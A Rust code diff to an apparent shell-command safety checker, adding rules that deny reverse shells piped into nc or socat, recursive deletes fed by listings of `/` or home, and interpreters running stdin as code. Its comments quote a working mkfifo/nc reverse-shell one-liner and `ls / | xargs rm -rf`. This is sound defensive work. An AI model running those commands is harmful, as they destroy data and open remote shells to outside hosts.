@@ -146,6 +146,8 @@ fn build_report(
     let invocations = &resolved.invocations;
     let mut outcomes: Vec<classify::Outcome> = invocations.iter().map(|inv| classify::classify(inv, ws)).collect();
     network_fed_code(invocations, &mut outcomes);
+    shell_into_network(invocations, &mut outcomes);
+    listing_fed_recursive_delete(invocations, &mut outcomes, ws);
     downloaded_then_run(invocations, &mut outcomes, ws);
     secret_operands_from_input(invocations, &mut outcomes, ws);
     let rules = policy.map(|p| p.apply(invocations, &mut outcomes, ws)).unwrap_or_default();
@@ -235,11 +237,9 @@ fn runs_input_as_code(inv: &resolve::Invocation, outcome: &classify::Outcome) ->
     if has("opaque.dynamic-script") {
         return true;
     }
-    let text = inv.argv.first().map(|a| a.text.as_str()).unwrap_or("");
-    if matches!(text, "$SHELL" | "${SHELL}" | "\"$SHELL\"" | "$BASH" | "${BASH}") {
-        return true;
-    }
-    let Some(name) = inv.name() else { return false };
+    // A command name known only at run time (`$SHELL`, `${SHELL:-sh}`, `$(which bash)`,
+    // `$c` read from the input) may well be a shell.
+    let Some(name) = inv.name() else { return true };
     let name = name.rsplit('/').next().unwrap_or(name);
     let operands: Vec<&str> =
         inv.argv[1..].iter().map(|a| a.value().unwrap_or("?")).filter(|v| *v == "-" || !v.starts_with('-')).collect();
@@ -248,8 +248,13 @@ fn runs_input_as_code(inv: &resolve::Invocation, outcome: &classify::Outcome) ->
     match name {
         "awk" | "gawk" | "mawk" | "nawk" | "sed" | "gsed" => has("exec.flag"),
         "at" | "batch" | "gdb" | "jshell" | "su" => true,
+        "fish" | "csh" | "tcsh" | "pypy" | "pypy3" => stdin_script,
+        // `python3 -c 'exec(sys.stdin.read())'`, `perl -ne 'system $_'`: inline code that runs
+        // what it reads.
+        "python" | "python3" | "perl" | "ruby" | "node" | "lua" => inline_runs_input(inv),
         "crontab" => stdin_script && !flag("l") && !flag("r") && !flag("e"),
-        "m4" | "dc" | "expect" | "osascript" | "php" => stdin_script,
+        "m4" | "dc" | "expect" | "osascript" => stdin_script,
+        "php" => stdin_script || inline_runs_input(inv),
         "Rscript" | "deno" => operands.contains(&"-"),
         "make" | "gmake" => {
             inv.argv
@@ -258,6 +263,88 @@ fn runs_input_as_code(inv: &resolve::Invocation, outcome: &classify::Outcome) ->
                 || inv.argv.iter().any(|a| matches!(a.value(), Some("-f-" | "--file=-" | "--makefile=-")))
         }
         _ => false,
+    }
+}
+
+/// `ls / | xargs rm -rf`, `cd / && ls | xargs rm -rf`, `find ~ -maxdepth 1 | xargs rm -rf`: a
+/// recursive delete whose operands are the listing of `/`, home or a system directory
+/// destroys it, like `rm -rf /*`.
+fn listing_fed_recursive_delete(
+    invocations: &[resolve::Invocation],
+    outcomes: &mut [classify::Outcome],
+    ws: &Workspace,
+) {
+    for (i, inv) in invocations.iter().enumerate() {
+        let name = inv.name().map(|n| n.rsplit('/').next().unwrap_or(n)).unwrap_or("");
+        let recursive = inv.argv.iter().skip(1).any(|a| {
+            a.value().is_some_and(|v| {
+                v == "--recursive" || (v.starts_with('-') && !v.starts_with("--") && v.contains(['r', 'R']))
+            })
+        });
+        if !inv.extra_operands || !matches!(name, "rm" | "shred") || !recursive {
+            continue;
+        }
+        let Some((a, b)) = inv.stdin_from else { continue };
+        for feeder in &invocations[a..b.min(invocations.len())] {
+            let fname = feeder.name().map(|n| n.rsplit('/').next().unwrap_or(n)).unwrap_or("");
+            // Only listings of everything: `ls DIR`, or `find DIR` with no test but depth.
+            let values: Vec<&str> = feeder.argv.iter().skip(1).map(|x| x.value().unwrap_or("?")).collect();
+            let find_all = fname == "find"
+                && values.iter().all(|v| !v.starts_with('-') || matches!(*v, "-maxdepth" | "-mindepth"));
+            if fname != "ls" && !find_all {
+                continue;
+            }
+            let dirs: Vec<&resolve::Arg> = feeder
+                .argv
+                .iter()
+                .skip(1)
+                .filter(|x| x.value().is_some_and(|v| !v.starts_with('-') && !v.bytes().all(|b| b.is_ascii_digit())))
+                .collect();
+            let here = resolve::Arg::lit(".", feeder.span);
+            let dirs = if dirs.is_empty() { vec![&here] } else { dirs };
+            for d in dirs {
+                let p = classify::resolve_path(feeder, ws, d);
+                if p.dynamic {
+                    continue;
+                }
+                if let Some((code, what)) = knowledge::coreutils::catastrophic_target(&p.path) {
+                    let message = format!("recursive delete of everything `{fname}` lists in `{what}`");
+                    outcomes[i].add(code, message, Decision::Deny, inv.span);
+                }
+            }
+        }
+    }
+}
+
+/// Inline interpreter code that runs what it computes (`exec(sys.stdin.read())`,
+/// `system $_`, `eval`): with the input from the network, network code runs.
+fn inline_runs_input(inv: &resolve::Invocation) -> bool {
+    inv.argv.iter().skip(1).any(|a| {
+        let t = a.value().unwrap_or(&a.text);
+        ["exec(", "eval", "system", "`", "spawn", "popen", "child_process"].iter().any(|k| t.contains(k))
+    })
+}
+
+/// `mkfifo f; cat f | sh -i 2>&1 | nc host 4444 > f`: a shell whose output goes to a network
+/// connection (and whose input comes back from it) is a reverse shell.
+fn shell_into_network(invocations: &[resolve::Invocation], outcomes: &mut [classify::Outcome]) {
+    for (i, inv) in invocations.iter().enumerate() {
+        let name = inv.name().map(|n| n.rsplit('/').next().unwrap_or(n)).unwrap_or("");
+        if !matches!(name, "nc" | "ncat" | "netcat" | "telnet" | "socat") || !outcomes[i].effects.contains(&"network") {
+            continue;
+        }
+        let Some((a, b)) = inv.stdin_from else { continue };
+        let shell_upstream = invocations[a..b.min(invocations.len())]
+            .iter()
+            .any(|u| u.name().is_some_and(|n| resolve::is_shell(n.rsplit('/').next().unwrap_or(n))));
+        if shell_upstream {
+            outcomes[i].add(
+                "net.reverse-shell",
+                "a shell's output is sent to a network connection",
+                Decision::Deny,
+                inv.span,
+            );
+        }
     }
 }
 
